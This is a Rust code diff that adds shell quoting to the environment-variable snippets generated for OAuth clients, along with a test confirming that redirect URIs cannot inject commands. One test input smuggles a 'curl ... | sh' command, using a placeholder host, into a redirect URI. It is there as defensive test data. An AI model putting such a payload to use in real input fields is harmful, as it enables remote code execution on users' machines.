@@ -115,7 +115,7 @@ pub fn of(client: &Client, way: Way, issuer: &str, secret: Option<&str>) -> Snip
     let redirect_uri = client.redirect_uris.first().map_or("https://app.example.com/callback", |uri| uri);
     let (id, secret) = (&*client.id, secret.unwrap_or("…"));
     let environment = |lines: &[(&str, &str)]| {
-        let lines: Vec<String> = lines.iter().map(|(name, value)| format!("{name}={value}")).collect();
+        let lines: Vec<String> = lines.iter().map(|(name, value)| format!("{name}={}", quoted(value))).collect();
         Some(lines.join("\n"))
     };
     let values = [("ISSUER", issuer), ("CLIENT_ID", id), ("CLIENT_SECRET", secret), ("REDIRECT_URI", redirect_uri)];
@@ -144,6 +144,12 @@ pub fn of(client: &Client, way: Way, issuer: &str, secret: Option<&str>) -> Snip
         Way::Curl => (environment(&values[..3]), one(CURL)),
     };
     Snippet { environment, files }
+}
+
+/// As a shell takes it for one word, and for nothing to do: a redirect URI may have `;`, `|` and `$` in it.
+fn quoted(value: &str) -> String {
+    let is_plain = |it: char| it.is_ascii_alphanumeric() || ":/._~%?=+-".contains(it);
+    if value.chars().all(is_plain) { value.to_owned() } else { format!("'{}'", value.replace('\'', r"'\''")) }
 }
 
 /// Of a page of the documentation.
@@ -192,6 +198,20 @@ mod tests {
                 assert_eq!(Way::chosen(*kind, way.as_str()), *way);
             }
             assert_eq!(Way::chosen(*kind, "nothing"), Way::all_of(*kind)[0]);
+        }
+    }
+
+    #[test]
+    fn nothing_in_a_redirect_uri_is_run_by_a_shell() {
+        let mut client = Client::new("cli_own", "Own", ClientKind::Web, Timestamp::from_millis(0));
+        for (uri, written) in [
+            ("https://x.example/cb?a=b%20c", "https://x.example/cb?a=b%20c"),
+            ("https://x.example/cb;curl${IFS}x.example|sh", "'https://x.example/cb;curl${IFS}x.example|sh'"),
+            ("https://x.example/it's&sh", r"'https://x.example/it'\''s&sh'"),
+        ] {
+            client.redirect_uris = vec![uri.into()];
+            let lines = of(&client, Way::Node, "https://id.example.org", None).environment.unwrap();
+            assert!(lines.lines().any(|line| line == format!("REDIRECT_URI={written}")), "{lines}");
         }
     }
 
